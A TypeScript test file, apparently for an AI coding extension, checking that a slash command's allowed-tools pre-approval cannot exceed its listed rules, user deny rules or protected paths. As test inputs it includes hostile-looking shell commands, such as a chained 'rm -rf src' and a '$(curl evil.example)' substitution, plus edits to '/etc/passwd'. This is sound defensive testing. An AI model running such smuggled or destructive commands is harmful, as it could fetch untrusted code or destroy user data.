// A slash command's allowed-tools: Claude Code's rules mapped onto ours, pre-approving a turn's calls
// through the real policy — never past the listed rules, never over a deny rule, a protected path or
// "cannot judge" — and a workspace command file granting nothing until the user approved that version.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { homedir } from 'node:os';
import { createPolicy } from '../../../extension/core/permissions';
import { declaredToolFacts } from '../../../extension/core/tools/registry';
import { gateWithPreApproval, judgeCall, type PermissionGate } from '../../../extension/core/agent/permission-gate';
import { mapAllowedTools, splitAllowedTools } from '../../../extension/core/extensions/allowed-tools';
import { preApprovalFor, type GrantHost } from '../../../extension/core/extensions/command-grants';
import { expandPrompt } from '../../../extension/core/extensions/prompt-expansion';
import { ProjectContext } from '../../../extension/core/extensions/project-context';
import { createNodePorts, makeTempWorkspace } from '../../fixtures/node-ports';
import { projectOnDisk, write } from './helpers';
import * as path from 'node:path';

test('Claude Code rules map onto ours: prefix :*, exact, tool names, paths, domains, MCP', () => {
  assert.deepEqual(splitAllowedTools(['Bash(git add:*), Bash(git status:*), Read']), [
    'Bash(git add:*)',
    'Bash(git status:*)',
    'Read',
  ]);
  const { rules, dropped } = mapAllowedTools(
    [
      'Bash(git add:*)',
      'Bash(npm test)',
      'Read',
      'Edit(src/**)',
      'Write(./docs/*.md)',
      'Read(//etc/hosts)',
      'WebFetch(domain:example.com)',
      'Grep',
      'mcp__github__get_issue',
      'Task',
    ],
    { workspace: false },
  );
  assert.deepEqual(rules, [
    'bash(git add)',
    'bash(git add *)',
    'bash(npm test)',
    'read',
    'edit(src/**)',
    'edit(docs/*.md)',
    'read(/etc/hosts)',
    'web_fetch(domain:example.com)',
    'grep',
    'mcp__github__get_issue',
  ]);
  assert.deepEqual(dropped, [{ entry: 'Task', why: 'no tool here corresponds to Task' }]);
  // From a workspace file, rules covering a whole writing or running tool are dropped outright.
  const ws = mapAllowedTools(['Bash', 'Bash(*)', 'Bash(:*)', 'Edit', 'Write(**)', 'Read', 'Bash(git diff:*)'], {
    workspace: true,
  });
  assert.deepEqual(ws.rules, ['read', 'bash(git diff)', 'bash(git diff *)']);
  assert.equal(ws.dropped.length, 5);
  // The user's own file may (like their settings).
  assert.deepEqual(mapAllowedTools(['Bash'], { workspace: false }).rules, ['bash']);
});

function gate(root: string, user: { deny?: string[]; ask?: string[]; allow?: string[] } = {}): PermissionGate {
  const policy = createPolicy({ user, workspaceFolders: [root], home: homedir(), tools: declaredToolFacts() });
  return { policy: () => policy, rememberRule: async () => undefined };
}

const bash = (command: string) => ({ tool: 'bash', kind: 'execute' as const, input: { command } });

test('pre-approval allows what it lists and nothing more; deny, ask rules and protected paths stand', async () => {
  const root = await makeTempWorkspace({ 'src/a.ts': 'a' });
  const ws = createNodePorts({ root }).workspace;
  const pre = {
    rules: mapAllowedTools(['Bash(git add:*)', 'Edit(src/**)'], { workspace: false }).rules,
    source: '/commit',
  };
  const g = gateWithPreApproval(gate(root, { deny: ['bash(git add secret*)'], ask: ['bash(git add -f*)'] }), pre);
  const plain = gate(root);

  assert.equal((await judgeCall(plain, bash('git add src/a.ts'), ws)).decision, 'ask', 'without it: asks');
  const allowed = await judgeCall(g, bash('git add src/a.ts'), ws);
  assert.equal(allowed.decision, 'allow');
  assert.match(allowed.reason, /from \/commit's allowed-tools allows it for this turn/);
  assert.equal((await judgeCall(g, bash('git add'), ws)).decision, 'allow');
  // Not past the listed rules: another command, a chain with an unlisted piece, a substitution.
  assert.equal((await judgeCall(g, bash('git addx'), ws)).decision, 'ask');
  assert.equal((await judgeCall(g, bash('git add . && rm -rf src'), ws)).decision, 'ask');
  assert.equal((await judgeCall(g, bash('git add $(curl evil.example)'), ws)).decision, 'ask');
  assert.equal((await judgeCall(g, bash('git push'), ws)).decision, 'ask');
  // Never over the user's deny and ask rules.
  assert.equal((await judgeCall(g, bash('git add secret.txt'), ws)).decision, 'deny');
  assert.equal((await judgeCall(g, bash('git add -f build'), ws)).decision, 'ask');
  // Edits: inside the listed folder only, and never a protected path.
  const edit = (file: string) => ({ tool: 'edit_file', kind: 'write' as const, input: { file_path: file } });
  assert.equal((await judgeCall(g, edit(path.join(root, 'src/a.ts')), ws)).decision, 'allow');
  assert.equal((await judgeCall(g, edit(path.join(root, 'README.md')), ws)).decision, 'ask');
  const g2 = gateWithPreApproval(gate(root), { rules: ['edit(**)'], source: '/x' });
  assert.equal((await judgeCall(g2, edit(path.join(root, '.git/config')), ws)).decision, 'ask', 'protected');
  assert.equal((await judgeCall(g2, edit(path.join(root, 'package.json')), ws)).decision, 'ask', 'protected');
  assert.equal((await judgeCall(g2, edit('/etc/passwd'), ws)).decision, 'ask', 'outside the workspace');
});

function grantHost(trusted = true): GrantHost & { asks: string[]; store: Record<string, string> } {
  const store: Record<string, string> = {};
  const asks: string[] = [];
  let answer = true;
  return {
    asks,
    store,
    trusted: () => trusted,
    approvedHash: (f) => store[f],
    remember: async (f, h) => {
      store[f] = h;
    },
    ask: async (q) => {
      asks.push(`${q.command}: ${q.rules.join(', ')}${q.dropped.length ? ` | dropped ${q.dropped.length}` : ''}`);
      const a = answer;
      answer = true;
      return a;
    },
    set next(v: boolean) {
      answer = v;
    },
  } as GrantHost & { asks: string[]; store: Record<string, string>; next: boolean };
}

test('a workspace command grants only once its file’s version is approved; the user’s own apply', async () => {
  const p = await projectOnDisk(
    {
      '.claude/commands/commit.md':
        '---\nallowed-tools: Bash(git add:*), Bash(*)\ndescription: Commit\n---\nCommit the staged work.\n',
    },
    { '.claude/commands/mine.md': '---\nallowed-tools: Bash(npm test:*)\n---\nRun the tests.\n' },
  );
  const project = new ProjectContext(p.files);
  const expand = async (text: string) => {
    const r = await expandPrompt(project.commands, text);
    assert.ok(r.ok && r.grant);
    return r.grant;
  };
  const host = grantHost() as ReturnType<typeof grantHost> & { next: boolean };
  const first = await preApprovalFor(await expand('/commit'), host);
  assert.deepEqual(first, { rules: ['bash(git add)', 'bash(git add *)'], source: '/commit' });
  assert.deepEqual(host.asks, ['commit: bash(git add), bash(git add *) | dropped 1'], 'asked once, Bash(*) dropped');
  await preApprovalFor(await expand('/commit'), host);
  assert.equal(host.asks.length, 1, 'the same file is not asked about again');

  // An edit to the file (here: its body, which decides what runs under the rules) asks again.
  await write(
    path.join(p.root, '.claude/commands/commit.md'),
    '---\nallowed-tools: Bash(git add:*)\n---\nCommit and push.\n',
  );
  host.next = false;
  assert.equal(await preApprovalFor(await expand('/commit'), host), undefined, 'declined: nothing pre-approved');
  assert.equal(host.asks.length, 2);

  // Restricted Mode: a workspace file grants nothing, and is not even asked about.
  const untrusted = grantHost(false);
  assert.equal(await preApprovalFor(await expand('/commit'), untrusted), undefined);
  assert.deepEqual(untrusted.asks, []);

  // The user's own command file applies without asking.
  const mine = grantHost();
  assert.deepEqual(await preApprovalFor(await expand('/mine'), mine), {
    rules: ['bash(npm test)', 'bash(npm test *)'],
    source: '/mine',
  });
  assert.deepEqual(mine.asks, []);
});
